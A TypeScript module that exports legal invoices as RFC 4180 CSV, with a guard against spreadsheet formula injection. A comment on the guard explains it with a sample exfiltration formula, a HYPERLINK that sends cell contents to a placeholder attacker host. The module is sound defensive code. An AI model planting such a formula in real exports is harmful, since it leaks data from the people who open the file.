import type { InvoiceDocument, InvoiceLine } from '../../core/invoice.js';
import { formatAmount } from '../../core/money.js';
import { exportInvoiceDate, exportInvoiceNumber, lineTotalCents, printedHours } from './export-fields.js';

/** The CSV export's columns, in order: the header row, and the contract for anyone importing the file. */
export const INVOICE_CSV_COLUMNS = [
  'invoice_number', 'invoice_date', 'client_code', 'matter_code', 'client_matter_id', 'line_no', 'type', 'date',
  'timekeeper', 'timekeeper_id', 'classification', 'task_code', 'activity_code', 'description', 'hours', 'rate',
  'amount', 'adjustment', 'adjustment_reason', 'line_total', 'currency',
] as const;

/** Byte order mark: tells Excel the file is UTF-8, so "Núñez" does not open as "NÃºÃ±ez". */
export const UTF8_BOM = '\uFEFF';

/** Options of {@link renderCsv}. */
export interface CsvOptions {
  /** Start with a UTF-8 byte order mark for Excel. Default true; false for plain RFC 4180 text. */
  readonly bom?: boolean;
}

/** A value we wrote ourselves (number, date, fixed word): safe as it is. */
type Trusted = { readonly trusted: string };
/** A value that came from people (names, narratives, codes typed in a config file): guarded. */
type Cell = Trusted | string;

const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Formula-injection guard. Billing staff open these files in Excel or Google Sheets, which run a cell
 * starting with `=`, `+`, `-` or `@` (and, after a leading tab or CR, the same) as a formula: a narrative
 * such as `=HYPERLINK("http://evil.example?"&A1,"Click")` could leak data or run commands (DDE). A leading
 * apostrophe makes the spreadsheet show the text as text. Only text from people is guarded, never our own
 * numbers, so a write-down still reads "-150.00" and stays a number.
 */
export function guardFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** RFC 4180 quoting: a field with a comma, quote, CR or LF is wrapped in quotes with its quotes doubled. */
export function csvField(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

function cellText(cell: Cell): string {
  return csvField(typeof cell === 'string' ? guardFormula(cell) : cell.trusted);
}

const ours = (text: string): Trusted => ({ trusted: text });
const money = (cents: number | null): Trusted => ours(cents === null ? '' : formatAmount(cents));

function lineCells(doc: InvoiceDocument, line: InvoiceLine): Cell[] {
  const timekeeper = line.timekeeper;
  return [
    exportInvoiceNumber(doc),
    ours(exportInvoiceDate(doc)),
    doc.client.code,
    doc.matter.code,
    doc.matter.clientMatterId ?? '',
    ours(String(line.lineNo)),
    ours(line.kind),
    ours(line.workDate ?? ''),
    timekeeper?.name ?? '',
    timekeeper?.timekeeperId ?? '',
    timekeeper?.classification ?? '',
    line.taskCode ?? '',
    line.activityCode ?? '',
    line.description,
    ours(line.minutes === null ? '' : printedHours(line.minutes).text),
    money(line.rateCents),
    money(line.amountCents),
    money(line.adjustmentCents),
    line.adjustmentReason ?? '',
    money(lineTotalCents(line)),
    doc.currency,
  ];
}

/**
 * Renders invoices as one RFC 4180 CSV text: a header row ({@link INVOICE_CSV_COLUMNS}), then one row per
 * invoice line, invoices one after another; CRLF after every row. Dates are YYYY-MM-DD (an adjustment line
 * without a work date has none), hours are printed as in LEDES (0.1 h steps, or exact hundredths such as
 * 0.75), money has 2 decimals without symbols. Text is kept as written (UTF-8, newlines quoted) except
 * for the formula guard ({@link guardFormula}). A draft is numbered as in LEDES: `DRAFT-` + 8 id characters.
 */
export function renderCsv(docs: readonly InvoiceDocument[], options: CsvOptions = {}): string {
  const rows = [INVOICE_CSV_COLUMNS.map((name) => ours(name)), ...docs.flatMap((doc) => doc.lines.map((line) => lineCells(doc, line)))];
  const body = rows.map((cells) => `${cells.map(cellText).join(',')}\r\n`).join('');
  return options.bom === false ? body : `${UTF8_BOM}${body}`;
}
